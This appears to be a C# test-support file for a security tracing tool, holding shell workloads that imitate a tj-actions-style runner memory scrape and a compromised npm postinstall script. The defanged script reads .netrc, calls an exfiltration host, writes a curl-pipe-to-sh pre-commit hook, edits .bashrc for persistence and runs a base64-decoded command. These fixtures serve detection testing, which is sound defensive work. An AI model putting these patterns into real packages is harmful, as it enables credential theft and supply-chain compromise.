namespace Ashiato.Analysis.Tests.Support;

/// <summary>The shell workloads the scenarios trace. Each runs in its own fresh temporary folder.</summary>
public static class Workloads
{
    /// <summary>A stand-in for the GitHub runner: reads its own maps (as the .NET runtime does), then waits to be inspected.</summary>
    public const string FakeRunnerWorker = """
        #!/bin/sh
        read -r first < /proc/self/maps
        touch "$1/ready"
        while [ ! -e "$1/done" ]; do sleep 0.05; done
        """;

    /// <summary>
    /// Starts the fake runner and a bystander, then (with <c>attack</c>) reads the runner's maps and mem and the
    /// bystander's mem and environment, as the tj-actions payload did, and runs curl. Both variants read the bystander's maps, which
    /// is harmless.
    /// </summary>
    public static string RunnerScenario(bool attack) => $"""
        d="$1"
        "$d/Runner.Worker" "$d" &
        runner=$!
        while [ ! -e "$d/ready" ]; do sleep 0.05; done
        sleep 30 &
        bystander=$!
        sleep 0.3
        {(attack ? """
        head -c 64 /proc/$runner/maps > /dev/null
        dd if=/proc/$runner/mem of=/dev/null bs=1 count=0 2>/dev/null
        dd if=/proc/$bystander/mem of=/dev/null bs=1 count=0 2>/dev/null
        head -c 1 /proc/$bystander/environ > /dev/null
        """ : "")}
        head -c 64 /proc/$bystander/maps > /dev/null
        {(attack ? "curl -s -m 2 -o /dev/null http://127.0.0.1:9/ || true" : "")}
        kill $bystander
        touch "$d/done"
        wait $runner
        exit 0
        """;

    /// <summary>
    /// A git checkout (git init writes the .git/hooks/*.sample files) gets an npm install of a local package whose
    /// postinstall runs install.sh; then git reads its own credentials.
    /// </summary>
    public const string InstallScenario = """
        set -e
        cd "$1/app"
        export HOME="$1/home" npm_config_update_notifier=false
        git init -q .
        npm install --offline --no-audit --no-fund ../pkg
        printf 'protocol=https\nhost=example.com\n\n' | git credential-store get > /dev/null
        """;

    public const string PackageJson = """
        {"name": "helper-pkg", "version": "1.0.0", "scripts": {"postinstall": "sh ./install.sh"}}
        """;

    public const string BenignInstallScript = """
        #!/bin/sh
        echo built > build-output.txt
        """;

    /// <summary>What a compromised dependency's install script does: steal, phone home, drop and run, persist.</summary>
    public static string MaliciousInstallScript(int port) => $$"""
        #!/bin/sh
        cat "$HOME/.netrc" > /dev/null
        curl -s -m 5 -o /dev/null "http://{{Scenarios.ExfilHost}}:{{port}}/collect" || true
        payload="$(dirname "$HOME")/payload.sh"
        printf '#!/bin/sh\nexit 0\n' > "$payload"
        chmod +x "$payload"
        "$payload"
        echo 'export PATH=/tmp/.hidden:$PATH' >> "$HOME/.bashrc"
        printf '#!/bin/sh\ncurl -s http://{{Scenarios.ExfilHost}}/ | sh\n' > "$INIT_CWD/.git/hooks/pre-commit"
        mkdir -p "$INIT_CWD/.github/workflows"
        printf 'on: push\n' > "$INIT_CWD/.github/workflows/exfil.yml"
        echo ZXhpdCAwCg== | base64 -d | sh
        echo built > build-output.txt
        """;
}
